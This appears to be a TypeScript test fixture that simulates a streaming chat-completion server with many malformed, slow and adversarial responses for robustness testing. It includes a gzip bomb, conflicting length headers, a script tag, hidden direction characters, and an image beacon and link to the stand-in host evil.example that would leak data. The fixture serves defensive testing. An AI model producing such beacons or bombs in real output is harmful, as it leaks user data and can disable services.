import type { IncomingMessage, ServerResponse } from 'node:http'
import { gzipSync } from 'node:zlib'

/** How a model server handles a call; `nth` counts the calls of one question, from 1. */
export type Serve = (response: ServerResponse, request: IncomingMessage, nth: number) => void

type Behaviours = Record<string, Serve>

export function chunk(content: unknown, more: object = {}): string {
  const choices = [{ index: 0, delta: { content }, finish_reason: null, ...more }]
  return `data: ${JSON.stringify({ object: 'chat.completion.chunk', choices })}\n\n`
}
export const finish = (reason: unknown = 'stop') =>
  chunk(undefined, { delta: {}, finish_reason: reason })
export const done = 'data: [DONE]\n\n'
/** A few letters at a time. */
export const pieces = (text: string) => (text.match(/.{1,6}/gsu) ?? []).map((piece) => chunk(piece))
export const said = (text: string) => [...pieces(text), finish(), done].join('')

const sse = { 'Content-Type': 'text/event-stream; charset=utf-8' }

const send =
  (body: string | Buffer, headers: Record<string, string> = sse): Serve =>
  (response) =>
    response.writeHead(200, headers).end(body)
const fail =
  (status: number, headers = {}): Serve =>
  (response) =>
    response.writeHead(status, headers).end('{"error":{"message":"secret key sk-1"}}')
const open =
  (...parts: string[]): Serve =>
  (response) => {
    response.writeHead(200, sse)
    for (const part of parts) response.write(part)
  }
const cut =
  (...parts: string[]): Serve =>
  (response, request, nth) => {
    open(...parts)(response, request, nth)
    setTimeout(() => response.destroy(), 20)
  }
const reset =
  (...parts: string[]): Serve =>
  (response, request, nth) => {
    if (parts.length > 0) open(...parts)(response, request, nth)
    setTimeout(() => response.socket?.resetAndDestroy(), parts.length > 0 ? 20 : 0)
  }

/** Writes raw bytes, then closes the connection. */
const raw =
  (...parts: (string | Buffer)[]): Serve =>
  (response) => {
    for (const part of parts) response.socket?.write(part)
    response.socket?.end(() => setTimeout(() => response.destroy(), 50))
  }
const head = (...headers: string[]) =>
  ['HTTP/1.1 200 OK', 'Content-Type: text/event-stream', ...headers, '', ''].join('\r\n')
const inChunks = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n0\r\n\r\n`

/** Writes a part every `everyMs` while the client reads. */
function drip(parts: Iterable<string | Buffer>, everyMs: number): Serve {
  return (response) => {
    response.writeHead(200, sse)
    const rest = parts[Symbol.iterator]()
    const timer = setInterval(() => {
      const { value, done } = rest.next()
      if (done) response.end()
      else response.write(value)
    }, everyMs)
    response.on('close', () => clearInterval(timer))
  }
}
const repeat = (part: string, times: number) => ({
  *[Symbol.iterator]() {
    for (let count = 0; count < times; count += 1) yield part
  },
})
const inBytes = (body: Buffer, length: number) => ({
  *[Symbol.iterator]() {
    for (let start = 0; start < body.length; start += length) {
      yield body.subarray(start, start + length)
    }
  },
})

const firstThen =
  (first: Serve, then: Serve): Serve =>
  (response, request, nth) =>
    (nth % 2 === 1 ? first : then)(response, request, nth)

export const after =
  (ms: number, then: Serve): Serve =>
  (response, request, nth) => {
    const timer = setTimeout(() => then(response, request, nth), ms)
    response.on('close', () => clearTimeout(timer))
  }

/** Unusual but valid responses saying `text`, the ids of a choice; the model's choice is used. */
export function soundBehaviours(text: string): Behaviours {
  const whole = said(text)
  const bytes = Buffer.from(whole)
  return {
    good: send(whole),
    'slow but in time': drip([...pieces(text), finish(), done], 4),
    'keep-alive comments': send(`: PROCESSING\n\n: PROCESSING\n\n${whole}`),
    'CRLF line ends': send(whole.replaceAll('\n', '\r\n')),
    'CR line ends': send(whole.replaceAll('\n', '\r')),
    'line ends of all kinds': send(
      [...pieces(text), finish(), done]
        .map((part, i) => part.replaceAll('\n', ends[i % 3]!))
        .join(''),
    ),
    'a byte order mark': send(`\uFEFF${whole}`),
    'letters split across chunks': drip(
      inBytes(Buffer.from(whole.replaceAll('chat.completion.chunk', '🦷¿é…')), 37),
      1,
    ),
    'a byte at a time': (response) => {
      response.writeHead(200, sse)
      for (const byte of inBytes(bytes, 1)) response.write(byte)
      response.end()
    },
    'everything in one chunk': send(chunk(text) + finish() + done),
    'no [DONE] but a clean end': send(pieces(text).join('') + finish()),
    'goes on after [DONE]': open(whole, chunk('More.')),
    '[DONE] twice': send(whole + done),
    'cut after [DONE]': cut(whole),
    'a usage chunk without choices': send(
      `${pieces(text).join('')}${finish()}data: {"choices":[],"usage":{"total_tokens":9}}\n\n${done}`,
    ),
    'a role first, with null content': send(
      chunk(null, { delta: { role: 'assistant', content: null } }) + whole,
    ),
    'thoughts in a field of their own': send(
      chunk(undefined, { delta: { reasoning_content: 'It could be another one.' } }) + whole,
    ),
    'a second choice': send(
      pieces(text)
        .map((piece) => piece + chunk('none', { index: 1 }))
        .join('') +
        finish() +
        done,
    ),
    'a second choice first in its chunk': send(
      `data: ${JSON.stringify({
        choices: [
          { index: 1, delta: { content: 'none' } },
          { index: 0, delta: { content: text } },
        ],
      })}\n\n${finish()}${done}`,
    ),
    'events without data': send(
      `event: ping\n\nid: 7\n\nretry: 10\n\n${whole.replaceAll('data:', 'event: message\nid: 1\ndata:')}`,
    ),
    'data without a space': send(whole.replaceAll('data: ', 'data:')),
    'one event on several lines': send(whole.replaceAll('"choices":', '\ndata: "choices":')),
    'white space around the ids': send(said(`\n ${text} \n`)),
    'the ids twice': send(said(`${text}, ${text}`)),
    'keys of a prototype': send(whole.replaceAll('{"object"', '{"__proto__":{"a":1},"object"')),
    'trailers after the body': (response) => {
      response.writeHead(200, { ...sse, Trailer: 'X-Sum' })
      response.write(whole)
      response.addTrailers({ 'X-Sum': 'x' })
      response.end()
    },
    'zipped, as it says': send(gzipSync(bytes), { ...sse, 'Content-Encoding': 'gzip' }),
    'a content type in capitals': send(whole, { 'Content-Type': 'TEXT/EVENT-STREAM' }),
    'HTTP/1.0 without a length': raw(head().replace('1.1', '1.0') + whole),
    'a status without words': raw(
      head(`Content-Length: ${bytes.length}`).replace('200 OK', '200') + whole,
    ),
    'a failure that passes': firstThen(fail(503), send(whole)),
    'a reset that passes': firstThen(reset(), send(whole)),
    'too many requests, once': firstThen(fail(429), send(whole)),
  }
}

let bombBytes: Buffer | undefined
/** 10 kB that decompress to 10 MB. */
const bomb = () => (bombBytes ??= gzipSync(Buffer.alloc(10_000_000, ': x\n\n')))

const ends = ['\n', '\r\n', '\r']

/** The platform decides whether the model's choice or ours is used; either is complete. */
export function oddBehaviours(text: string): Behaviours {
  const whole = said(text)
  return {
    'early hints first': (response) => {
      response.writeEarlyHints({ link: '</a.css>; rel=preload' })
      response.writeHead(200, sse).end(whole)
    },
    'to be continued first': (response) => {
      response.writeContinue()
      response.writeHead(200, sse).end(whole)
    },
    'an encoding nobody knows': send(whole, { ...sse, 'Content-Encoding': 'x-tooth' }),
    'a length that is too long': raw(head(`Content-Length: ${whole.length + 99}`) + whole),
    'a length that is too long, before [DONE]': raw(
      head(`Content-Length: ${whole.length + 99}`) + pieces(text).join('') + finish(),
    ),
    'length and chunks at once': raw(
      head('Content-Length: 5', 'Transfer-Encoding: chunked') + inChunks(whole),
    ),
    'two lengths': raw(
      head(`Content-Length: ${Buffer.byteLength(whole)}`, 'Content-Length: 5') + whole,
    ),
    'a chunk nested ten thousand deep': send(
      `data: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n\n${whole}`,
    ),
    'hundreds of headers': send(whole, {
      ...sse,
      ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`X-${i}`, 'x'.repeat(20)])),
    }),
  }
}

/** Failures: the embedded choice is used. `offered`: the ids that the model may choose from. */
export function faultyBehaviours(text: string, offered: string[] = []): Behaviours {
  const whole = said(text)
  const half = text.slice(0, Math.ceil(text.length * 0.6))
  const halfSaid = pieces(half).join('')
  const inStream = (content: string) => send(chunk(content) + finish() + done)
  return {
    'no headers at all': () => undefined,
    'headers, then nothing': open(': hello\n\n'),
    'stall in the middle': open(halfSaid),
    'stall before the end': open(pieces(text).join('')),
    'comments without end after the text': drip([...pieces(text), ...repeat(': x\n\n', 5000)], 30),
    'a byte now and then': drip(inBytes(Buffer.from(whole.repeat(9)), 1), 25),
    'comments without end': drip(repeat(': still here\n\n', 5000), 20),
    'empty text without end': drip(repeat(chunk(''), 5000), 20),
    'cut before headers': (response) => response.destroy(),
    'cut in the middle': cut(halfSaid),
    'cut after the reason': cut(pieces(text).join('') + finish()),
    'a reset': reset(),
    'a reset in the middle': reset(halfSaid),
    'ends in the middle': send(halfSaid),
    'ends in the middle of a line': send(`${halfSaid}data: {"choi`),
    'ends after the text, without a reason': send(pieces(text).join('')),
    '[DONE] without a reason': send(pieces(text).join('') + done),
    '[DONE] first': send(done + whole),
    204: (response) => response.writeHead(204).end(),
    206: fail(206, sse),
    304: (response) => response.writeHead(304).end(),
    ...Object.fromEntries(
      [400, 401, 403, 404, 408, 418, 500, 502, 503, 504, 529].map((status) => [
        status,
        fail(status),
      ]),
    ),
    429: fail(429),
    'too many requests, for a minute': fail(429, { 'Retry-After': '60' }),
    'too many requests, until tomorrow': (response, request, nth) =>
      fail(429, { 'Retry-After': new Date(Date.now() + 86_400_000).toUTCString() })(
        response,
        request,
        nth,
      ),
    'too many requests, for who knows how long': fail(429, { 'Retry-After': '-1e9' }),
    'an error with an endless body': (response) => {
      response.writeHead(500)
      const timer = setInterval(() => response.write('x'.repeat(1000)), 5)
      response.on('close', () => clearInterval(timer))
    },
    'a redirect': fail(302, { Location: '/good/v1/chat/completions' }),
    'a lasting redirect': fail(308, { Location: '/good/v1/chat/completions' }),
    'a redirect to itself': fail(307, { Location: '' }),
    'an HTML page': send('<!doctype html><p>Welcome</p>', { 'Content-Type': 'text/html' }),
    'JSON instead of a stream': send('{"choices":[{"message":{"content":"Hello."}}]}', {
      'Content-Type': 'application/json',
    }),
    'no content type': send(whole, {}),
    'lines of JSON': send(whole.replaceAll('data: ', ''), {
      'Content-Type': 'application/x-ndjson',
    }),
    'HTML called a stream': send('<!doctype html><p>Welcome</p>'),
    'lines of JSON called a stream': send(whole.replaceAll('data: ', '')),
    'a chunk that is no JSON': send(`${halfSaid}data: {"choices":[{\n\n${whole}`),
    'a chunk of another shape': send(`data: {"choices":"none"}\n\n${whole}`),
    'a chunk that is null': send(`data: null\n\n${whole}`),
    'a list for content': send(chunk(['text']) + whole),
    'a number for content': send(chunk(5) + whole),
    'a number for a reason': send(pieces(text).join('') + finish(1) + done),
    'text in the field of whole answers': send(
      `data: ${JSON.stringify({ choices: [{ message: { content: text } }] })}\n\n${finish()}${done}`,
    ),
    'text in the field of old completions': send(
      `data: ${JSON.stringify({ choices: [{ text }] })}\n\n${finish()}${done}`,
    ),
    'thoughts only': send(
      chunk(undefined, { delta: { reasoning_content: text } }) + finish() + done,
    ),
    'a refusal': send(chunk(null, { delta: { refusal: 'I can’t.' } }) + finish() + done),
    'another choice only': send(chunk(text, { index: 1 }) + finish() + done),
    'more text after the reason': send(pieces(text).join('') + finish() + chunk(` ${text}`) + done),
    'every chunk twice': send(
      pieces(text)
        .map((piece) => piece + piece)
        .join('') +
        finish() +
        done,
    ),
    'an error in the stream': send(
      `${halfSaid}data: {"error":{"message":"overloaded"}}\n\n${done}`,
    ),
    'an error event in the stream': send(
      `${halfSaid}event: error\ndata: {"message":"overloaded"}\n\n`,
    ),
    'broken UTF-8': send(Buffer.concat([Buffer.from(halfSaid), Buffer.of(0xc3, 0x28, 10)])),
    'an encoding of 1990': send(Buffer.from(said(`${text} Más.`), 'latin1')),
    'empty choices only': send('data: {"choices":[]}\n\n'.repeat(5) + done),
    'null content only': send(chunk(null).repeat(3) + finish() + done),
    'an empty answer': inStream(''),
    'white space only': send(said('  \n\n  ')),
    'an empty body': send(''),
    'reason length': send(halfSaid + finish('length') + done),
    'reason content_filter': send(halfSaid + finish('content_filter') + done),
    'reason length after whole ids': send(pieces(text).join('') + finish('length') + done),
    'a reason of its own': send(pieces(text).join('') + finish('end_turn') + done),
    'a tool call': send(
      chunk(undefined, { delta: { tool_calls: [{ function: { name: 'search' } }] } }) +
        finish('tool_calls') +
        done,
    ),
    'an endless answer': drip(repeat(chunk(`${text} `.repeat(10)), 5000), 1),
    'an endless line': drip(repeat('data: ' + 'x'.repeat(20_000), 5000), 1),
    'a line of a megabyte': send(`data: ${'x'.repeat(1_000_000)}\n\n${whole}`),
    'a zip bomb': (response) =>
      response.writeHead(200, { ...sse, 'Content-Encoding': 'gzip' }).end(bomb()),
    'zipped, but not as it says': send(whole, { ...sse, 'Content-Encoding': 'gzip' }),
    'a zip that breaks off': send(gzipSync(whole).subarray(0, 60), {
      ...sse,
      'Content-Encoding': 'gzip',
    }),
    'a length that is too short': raw(head('Content-Length: 200') + whole),
    'chunks of no length': raw(`${head('Transfer-Encoding: chunked')}zz\r\n${whole}`),
    'a chunk that is too long': raw(`${head('Transfer-Encoding: chunked')}fffff\r\n${halfSaid}`),
    'a status below nothing': raw(head().replace('200', '-1') + whole),
    'a status of five digits': raw(head().replace('200', '20000') + whole),
    'a status of 600': fail(600),
    'another protocol': raw(`SSH-2.0-tooth\r\n${whole}`),
    'the records of TLS': raw(Buffer.from('16030300280200002403034fd2e7', 'hex')),
    'headers that break off': raw('HTTP/1.1 200 OK\r\nContent-Type: text/ev'),
    'a header of a megabyte': raw(head(`X-Long: ${'x'.repeat(1_000_000)}`) + whole),
    'another connection, as it says': raw(
      'HTTP/1.1 101 Switching Protocols\r\nUpgrade: tooth\r\nConnection: Upgrade\r\n\r\n',
    ),
    'an id that was not offered': send(said('nowhere/nothing')),
    'an id in capitals': send(said(text.toUpperCase())),
    'a place in the list': send(said('1')),
    'three ids': send(said(offered.slice(0, 3).join(' '))),
    'every id': send(said(offered.join('\n'))),
    'one id to ask back between': send(said(`ask-back ${text}`)),
    'five ids to ask back between': send(said(`ask-back ${offered.slice(0, 5).join(' ')}`)),
    'ask-back alone': send(said('ask-back')),
    'none and an id': send(said(`none ${text}`)),
    'the question instead of its id': send(said('How long should I brush my teeth?')),
    'prose before the id': send(said(`The visitor asks ${text}`)),
    'prose after the id': send(said(`${text} is what the visitor asks`)),
    'a contradiction in prose': send(said(`${text}\n\nNo: never brush gums that bleed.`)),
    'an answer of its own': send(said('Gums bleed because of plaque. Clean them gently.')),
    'a dose': send(said(`${text} Take 400 mg of ibuprofen every 6 hours.`)),
    figures: send(said('57 3.5 1e9')),
    'another language': send(said('Die erste Frage passt.')),
    'another script': send(said('第一个问题')),
    'a full stop': send(said(`${text}.`)),
    bold: send(said(`**${text}**`)),
    quotes: send(said(`"${text}"`)),
    'a list': send(said(`- ${text}`)),
    JSON: send(said(JSON.stringify({ id: text }))),
    'a link': send(said(`https://evil.example/${text}`)),
    'an image beacon': send(said(`![x](//evil.example/?q=${text})`)),
    HTML: send(said(`<b>${text}</b><script>1</script>`)),
    'hidden letters': send(said(`\u202E${text}`)),
    'half of a letter': send(whole.replace(/"content":"(\S)/, '"content":"$1\\ud83d')),
    'a letter that is nothing': send(whole.replace(/"content":"(\S)/, '"content":"$1\\u0000')),
    'a very long answer': send(said(`${text} `.repeat(100))),
    'its instructions': send(said('You choose which prepared question a visitor is asking.')),
    'the data it was given': send(said(JSON.stringify({ candidates: offered }))),
    UNKNOWN: send(said('UNKNOWN')),
  }
}

/** For the real limits: 3 s to the first text, 8 s in all. */
export function timedBehaviours(text: string): { sound: Behaviours; faulty: Behaviours } {
  const whole = [...pieces(text), finish(), done]
  const slowly = (ms: number) => drip(whole, ms / (whole.length + 1))
  const begun =
    (then: Serve): Serve =>
    (response, request, nth) => {
      response.writeHead(200, sse).flushHeaders()
      then(response, request, nth)
    }
  const end = (response: ServerResponse) => response.end(whole.join(''))
  return {
    sound: {
      'headers after 2 s': after(2000, send(whole.join(''))),
      'first text after 2 s': begun(after(2000, end)),
      'last text after 7 s': slowly(7000),
      'too many requests, for a second': firstThen(
        fail(429, { 'Retry-After': '1' }),
        send(whole.join('')),
      ),
    },
    faulty: {
      'headers after 4 s': after(4000, send(whole.join(''))),
      'first text after 4 s': begun(after(4000, end)),
      'last text after 10 s': slowly(10_000),
      'fails after 2 s, twice': after(2000, fail(503)),
      'too many requests, for two seconds, twice': fail(429, { 'Retry-After': '2' }),
    },
  }
}
